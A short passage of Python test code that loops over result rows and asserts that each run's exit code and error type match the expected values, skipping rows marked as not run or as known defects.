        if got != "not run" and not row["known_defect"]:
            assert (got["exit_code"], got["error_type"]) == tuple(row["expected"].values()), row
    for row in rows:
        got = row["got"]
        if got != "not run" and not row["known_defect"]:
            assert (got["exit_code"], got["error_type"]) == tuple(row["expected"].values()), row
